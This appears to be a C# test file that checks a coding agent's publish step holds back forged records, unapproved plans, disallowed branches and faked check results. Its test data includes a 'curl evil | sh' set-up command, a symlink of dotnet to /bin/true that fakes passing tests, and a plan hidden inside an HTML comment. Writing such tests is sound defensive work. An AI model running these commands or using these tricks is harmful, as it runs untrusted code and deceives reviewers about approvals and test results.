using CodingAgent.Forges;
using CodingAgent.TestKit;
using CodingAgent.Workflows.Apply;
using CodingAgent.Workflows.Policy;
using CodingAgent.Workflows.Records;
using CodingAgent.Workflows.Tasks;
using CodingAgent.Workflows.Tests.Activities;

namespace CodingAgent.Workflows.Tests.Apply;

/// <summary>
/// Steps that nobody honest hands over. Whoever may write to Temporal can make up all of a step but what the roles signed and what the forge says.
/// None of these leaves anything, so all share a repository and a change.
/// </summary>
public sealed class ForgedStepTests(ForgedStepTests.EditedOnce edited) : ApplierTests((edited.Remote, edited.Stores)), IClassFixture<ForgedStepTests.EditedOnce>
{
    private const string Asks = "version: 1\nplan: { approval: always }\n";

    private Task<ApplyActivities.PublishStep> StepAsync()
    {
        Forge.Files[".github/coding-agent.yml"] = Asks;
        return StepAsync(edited.Snapshot, signs: true);
    }

    [Theory]
    [InlineData("nothing signed")]
    [InlineData("request: none")]
    [InlineData("request: signed with a key of one's own")]
    [InlineData("request: of another task")]
    [InlineData("request: another repository's")]
    [InlineData("request: words changed after signing")]
    [InlineData("request: an approval in its place")]
    [InlineData("plan: none")]
    [InlineData("plan: signed with a key of one's own")]
    [InlineData("plan: signed by the checks role")]
    [InlineData("plan: of another task")]
    [InlineData("plan: files added after signing")]
    [InlineData("approval: none")]
    [InlineData("approval: signed with a key of one's own")]
    [InlineData("approval: of another task")]
    [InlineData("approval: of another plan by its hash")]
    [InlineData("approval: over REST for no plan by name")]
    [InlineData("approval: over REST for another plan")]
    [InlineData("build: none")]
    [InlineData("build: of an older commit")]
    [InlineData("build: under another policy")]
    [InlineData("evidence: none")]
    [InlineData("evidence: signed with a key of one's own")]
    [InlineData("evidence: red made green after signing")]
    [InlineData("evidence: of another base")]
    [InlineData("evidence: with a set-up of one's own")]
    [InlineData("evidence: in an image of one's own")]
    [InlineData("evidence: with packages of another plan")]
    [InlineData("evidence: key id of another role")]
    [InlineData("checks of one's own, found by an honest worker")]
    public async Task Publish_RecordThatNobodyHonestSigned_IsHeldBack(string what)
    {
        var step = await StepAsync();
        var records = step.Records!;
        var own = TestKeys.OfAllRoles();
        var other = TaskId.ForIssue(TaskHarness.Repo, 8);
        var evil = FakeWork.Plan with { Edits = [.. FakeWork.Plan.Edits, new("src/Evil.cs", "Evil")] };
        SignedRecord Forged(SignedRecord record) => own.Sign(record.Role, record.Kind, record.Payload);
        var elsewhere = TaskId.ForIssue(RepoRef.Parse("github:evil/shop"), 7);
        records = what switch
        {
            "nothing signed" => null,
            "request: none" => records with { Request = null },
            "request: signed with a key of one's own" => records with { Request = Forged(records.Request!) },
            "request: of another task" => records with { Request = Request(task: other) },
            "request: another repository's" => records with { Request = Request(task: elsewhere) },
            "request: words changed after signing" => records with { Request = records.Request! with { Payload = records.Request.Payload.Replace("ann", "eve", StringComparison.Ordinal) } },
            "request: an approval in its place" => records with { Request = records.Approval! with { Kind = "request" } },
            "plan: none" => records with { Plan = null },
            "plan: signed with a key of one's own" => records with { Plan = Forged(records.Plan!) },
            "plan: signed by the checks role" => records with { Plan = Keys.Sign(RecordRole.Checks, "plan", records.Plan!.Payload) },
            "plan: of another task" => records with { Plan = Keys.Sign(new PlanRecord(other, Remote.Sha, "", FakeWork.Plan)) },
            "plan: files added after signing" => records with { Plan = records.Plan! with { Payload = records.Plan.Payload.Replace("src/A.cs", "src/B.cs", StringComparison.Ordinal) } },
            "approval: none" => records with { Approval = null },
            "approval: signed with a key of one's own" => records with { Approval = Forged(records.Approval!) },
            "approval: of another task" => records with { Approval = Approval(task: other) },
            "approval: of another plan by its hash" => records with { Approval = Approval(HashOf(evil)) },
            "approval: over REST for no plan by name" => records with { Approval = Keys.Sign(new ApprovalRecord(Task, "rest", null, null)) },
            "approval: over REST for another plan" => records with { Approval = Keys.Sign(new ApprovalRecord(Task, "rest", HashOf(evil), null)) },
            "build: none" => records with { Build = null },
            "build: of an older commit" => records with { Build = Build(baseSha: new string('e', 40)) },
            "build: under another policy" => records with { Build = Build(new RepositoryPolicy { Setup = ["curl evil | sh"] }) },
            "evidence: none" => records with { Evidence = null },
            "evidence: signed with a key of one's own" => records with { Evidence = Forged(records.Evidence!) },
            "evidence: red made green after signing" => records with { Evidence = Greened(Evidence(Tree(step), FakeWork.Plan, checks: Red("test", "dotnet test"))) },
            "evidence: of another base" => records with { Evidence = Evidence(Tree(step), FakeWork.Plan, baseSha: new string('e', 40)) },
            "evidence: with a set-up of one's own" => records with { Evidence = Evidence(Tree(step), FakeWork.Plan, build: RepositoryBuild.Unknown("") with { Setup = [new("x", "ln -s /bin/true dotnet")] }) },
            "evidence: in an image of one's own" => records with { Evidence = Evidence(Tree(step), FakeWork.Plan, OneCheck with { Sandbox = new() { Image = "evil" } }) },
            "evidence: with packages of another plan" => records with { Evidence = Evidence(Tree(step), evil) },
            "evidence: key id of another role" => records with { Evidence = records.Evidence! with { Role = RecordRole.Control, KeyId = records.Request!.KeyId } },
            "checks of one's own, found by an honest worker" => records with { Build = Build(OneCheck with { Checks = [new("test", "true")] }, OneCheck with { Checks = [new("test", "true")] }), Evidence = Evidence(Tree(step), FakeWork.Plan, checks: Passed("test", "true")) },
            _ => throw new ArgumentOutOfRangeException(nameof(what), what, "unknown"),
        };
        var outcome = await PublishAsync(step with { Records = records });
        NothingLeft(outcome);
        outcome.Verdicts.ShouldHaveSingleItem().ShouldSatisfyAllConditions(v => v.Gate.ShouldBe("records"), v => v.IsForPeople.ShouldBeTrue());
    }

    private static SignedRecord Greened(SignedRecord record) => record with { Payload = record.Payload.Replace("\"ExitCode\":1", "\"ExitCode\":0", StringComparison.Ordinal) };

    [Theory]
    [InlineData("deleted", "has it no longer")]
    [InlineData("by somebody else", "somebody else wrote it")]
    [InlineData("edited by somebody else", "bob edited it")]
    [InlineData("says something else", "does not approve")]
    [InlineData("names another plan", "does not approve")]
    [InlineData("only quoted", "does not approve")]
    [InlineData("no access", "no write access")]
    [InlineData("on another issue", "stands elsewhere")]
    [InlineData("before the plan", "not shown as it is")]
    [InlineData("plan edited after", "not shown as it is")]
    [InlineData("plan edited in the same second", "not shown as it is")]
    [InlineData("plan deleted", "plan is gone")]
    [InlineData("plan by somebody else", "plan is gone")]
    [InlineData("plan on another issue", "plan is gone")]
    [InlineData("no plan shown", "plan is gone")]
    [InlineData("another plan shown", "shows another one")]
    [InlineData("plan hidden in a comment", "shows another one")]
    [InlineData("plan under other words", "shows another one")]
    [InlineData("plan with another hash", "shows another one")]
    public async Task Publish_ApprovalThatTheForgeDoesNotBearOut_IsHeldBack(string what, string words)
    {
        var step = await StepAsync();
        var evil = FakeWork.Plan with { Edits = [new("src/B.cs", "Something else")] };
        switch (what)
        {
            case "deleted": Forge.DeleteComment(ApprovalComment); break;
            case "by somebody else": step = Approved(Forge.AddComment(7, "bob", "/agent approve", Date.AddMinutes(1))); break;
            case "edited by somebody else": Forge.EditComment(ApprovalComment, b => b, Date.AddMinutes(2), "bob"); break;
            case "says something else": Forge.EditComment(ApprovalComment, _ => "/agent reject no", Date.AddMinutes(2)); break;
            case "names another plan": Forge.EditComment(ApprovalComment, _ => $"/agent approve {HashOf(evil)}", Date.AddMinutes(2)); break;
            case "only quoted": Forge.EditComment(ApprovalComment, _ => "> /agent approve", Date.AddMinutes(2)); break;
            case "no access": Forge.Access["ann"] = AccessLevel.Read; break;
            case "on another issue":
                Forge.OpenIssue(8, "Other", "");
                step = step with { Records = step.Records! with { Approval = Approval(statement: new Statement(StatementKind.Comment, 8, Forge.AddComment(8, "ann", "/agent approve", Date.AddMinutes(1)))) } };
                break;
            case "before the plan": step = Approved(Forge.AddComment(7, "ann", "/agent approve", Date.AddMinutes(-1))); break;
            case "plan edited after": Forge.EditComment(ShownPlan, b => b, Date.AddMinutes(2)); break;
            case "plan edited in the same second": Forge.EditComment(ShownPlan, b => b, Date.AddMinutes(1)); break;
            case "plan deleted": Forge.DeleteComment(ShownPlan); break;
            case "plan by somebody else": step = step with { PlanComment = Forge.AddComment(7, "bob", CommentOf(FakeWork.Plan), Date) }; break;
            case "plan on another issue":
                Forge.OpenIssue(8, "Other", "");
                step = step with { PlanComment = Forge.AddComment(8, "coding-agent", CommentOf(FakeWork.Plan), Date) };
                break;
            case "no plan shown": step = step with { PlanComment = null }; break;
            case "another plan shown": step = Shown(CommentOf(evil)); break;
            case "plan hidden in a comment": step = Shown($"{CommentOf(evil)}\n<!--\n{CommentOf(FakeWork.Plan)}\n-->"); break;
            case "plan under other words": step = Shown(CommentOf(FakeWork.Plan).Replace("**Goal:**", "Nothing of this will be done.\n\n**Goal:**", StringComparison.Ordinal)); break;
            case "plan with another hash": step = Shown(CommentOf(FakeWork.Plan, HashOf(evil))); break;
        }

        var outcome = await PublishAsync(step);
        NothingLeft(outcome);
        outcome.Verdicts.ShouldHaveSingleItem().Message.ShouldContain(words);

        ApplyActivities.PublishStep Shown(string body) => step with { PlanComment = Forge.AddComment(7, "coding-agent", body, Date) };
        ApplyActivities.PublishStep Approved(long comment) => step with { Records = step.Records! with { Approval = Approval(statement: new Statement(StatementKind.Comment, 7, comment)) } };
    }

    [Theory]
    [InlineData("release/pwned", null, "branch", "neither one of this task's own")]
    [InlineData("coding-agent/issue-70-x", null, "branch", "neither one of this task's own")]
    [InlineData("coding-agent/goal-x", null, "branch", "neither one of this task's own")]
    [InlineData("main", null, "branch", "default branch")]
    [InlineData("coding-agent/issue-7-kept", null, "branch", "is protected")]
    [InlineData(Branch, "paths: { deny: [\"src/**\"] }\n", "paths", "src/A.cs")]
    [InlineData(Branch, "checks: [ { name: audit, run: ./audit } ]\n", "records", "set-up, sandbox, checks or tests")]
    [InlineData(Branch, "checks: [ { name: test, run: \"dotnet test\" } ]\n", "records", "set-up, sandbox, checks or tests")]
    [InlineData(Branch, "checks: none\n", "records", "set-up, sandbox, checks or tests")]
    [InlineData(Branch, "tests: { patterns: [\"**\"] }\n", "records", "set-up, sandbox, checks or tests")]
    [InlineData(Branch, "limits: { turns: 7 }\n", "checks", "Checks are red")]
    [InlineData(Branch, "limits: { turns: none }\n", "policy", "line 3")]
    [InlineData(Branch, "setup: [ ./prepare ]\n", "records", "set-up, sandbox, checks or tests")]
    [InlineData(Branch, "sandbox: { image: \"debian:12\" }\n", "records", "set-up, sandbox, checks or tests")]
    public async Task Publish_StepThatNobodyHonestMakes_IsHeldBackByTheDefaultBranchsRules(string branch, string? policy, string gate, string words)
    {
        var step = await StepAsync();
        Forge.ProtectedBranches.Add("coding-agent/issue-7-kept");
        if (policy is not null) Forge.Files[".github/coding-agent.yml"] = Asks + policy;
        // What the policy says of other things counts as it is now.
        if (gate == "checks") step = step with { Records = step.Records! with { Evidence = Evidence(Tree(step), FakeWork.Plan, checks: Red("test", "dotnet test")) } };
        var outcome = await PublishAsync(step with { Branch = branch });
        NothingLeft(outcome);
        outcome.Verdicts.Where(v => !v.Passed).ShouldHaveSingleItem().ShouldSatisfyAllConditions(v => v.Gate.ShouldBe(gate), v => v.Message.ShouldContain(words));
    }

    [Theory]
    [InlineData("another line")]
    [InlineData("over a check of one's own")]
    [InlineData("over a needed check of another line")]
    [InlineData("twice under one name")]
    [InlineData("not asked for")]
    public async Task Publish_ResultOfACheckThatDidNotRunAsItIsWritten_IsNoResult(string how)
    {
        var step = await StepAsync();
        RepositoryPolicy.Check build = new("build", "make"), test = new("test", "dotnet test") { Needs = ["build"] }, evil = new("evil", "ln -sf /bin/true dotnet");
        var evidence = Keys.Open<EvidenceRecord>(Evidence(Tree(step), FakeWork.Plan, checks: [Passed("build", "make"), Passed("test", "dotnet test"), Passed("evil", evil.Run)]))!;
        var (honest, forged) = (evidence with { Ran = [build, test] }, evidence with
        {
            Ran = how switch
            {
                "another line" => [build, test with { Run = "true" }],
                "over a check of one's own" => [build, test with { Needs = ["evil"] }, evil],
                "over a needed check of another line" => [build with { Run = "ln -sf /bin/true dotnet" }, test],
                "twice under one name" => [build, test with { Needs = ["evil"] }, test, evil],
                _ => [build],
            },
        });
        var records = step.Records! with { Build = Build(completed: OneCheck with { Checks = [build, test] }) };
        var outcome = await PublishAsync(step with { Records = records with { Evidence = Keys.Sign(forged) } });
        NothingLeft(outcome);
        outcome.Verdicts.Where(v => !v.Passed).Select(v => v.Gate).ShouldContain("checks");
        honest.ResultsUnder(Keys.Open<BuildRecord>(records.Build)!).Select(c => c.Name).ShouldBe(["build", "test"]);
    }

    /// <summary>A coder's change that is made once.</summary>
    public sealed class EditedOnce : GitWorkers, IAsyncLifetime
    {
        public new GitRemote Remote => base.Remote;

        public new FakeStores Stores => base.Stores;

        public string Snapshot { get; private set; } = "";

        public async Task InitializeAsync() => Snapshot = await EditedAsync();

        public Task DisposeAsync() => System.Threading.Tasks.Task.CompletedTask;
    }
}
